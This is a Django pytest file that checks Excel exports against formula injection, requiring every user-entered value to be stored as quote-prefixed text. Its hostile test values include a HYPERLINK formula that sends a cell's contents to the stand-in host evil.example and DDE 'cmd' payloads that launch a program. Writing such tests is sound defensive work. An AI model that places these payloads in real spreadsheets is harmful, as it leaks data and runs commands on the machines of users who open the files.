"""Formula injection in the Excel exports (issue 17 §3): what users typed (an interferer's name and
position, a matter, a unit's name) is text in every cell of every export, never a live formula."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from discipline.tests.test_matrix import MATRIX

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点")'
POSITION = "=1+1"
MATTER = "=cmd|' /C calc'!A0"
UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = {NAME, POSITION, MATTER, UNIT, "+1+1", "-1+1", "\tx"}


def _spreadsheets(client):
    """Every URL of the project that answers the discipline user with an Excel file, and the file."""
    books = {}
    for name, (method, args_key, expected) in MATRIX.items():
        if method != "get" or args_key or expected["jj"] != 200:
            continue
        response = client.get(reverse(name))
        if response.get("Content-Type", "").startswith("application/vnd.openxmlformats-officedocument.spreadsheetml"):
            books[name] = load_workbook(BytesIO(response.content))
    return books


def test_no_cell_of_any_export_is_a_formula(client, org, jj, submit):
    org["section"].name = UNIT
    org["section"].save()
    submit(interferer_name=NAME, interferer_position=POSITION, matter=MATTER)
    submit(interferer_name="+1+1", interferer_position="-1+1", matter="\tx", behind_name="\x1b[2J韩某")
    client.force_login(jj)
    books = _spreadsheets(client)
    assert {"discipline:ledger_xlsx", "discipline:dashboard_xlsx"} <= set(books)
    for name, book in books.items():
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert cells, name
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], name
        hostile = [c for c in cells if c.value in HOSTILE]
        assert hostile, name
        # Shown verbatim (no apostrophe in the value) and kept as text when edited: Excel's quote prefix.
        assert all(c.data_type == "s" and c.quotePrefix for c in hostile), name
    ledger = {c.value for sheet in books["discipline:ledger_xlsx"] for row in sheet.iter_rows() for c in row}
    assert HOSTILE - {UNIT} <= ledger and UNIT in ledger and "[2J韩某" in ledger  # the escape character is dropped
    assert UNIT in {c.value for sheet in books["discipline:dashboard_xlsx"] for row in sheet.iter_rows() for c in row}
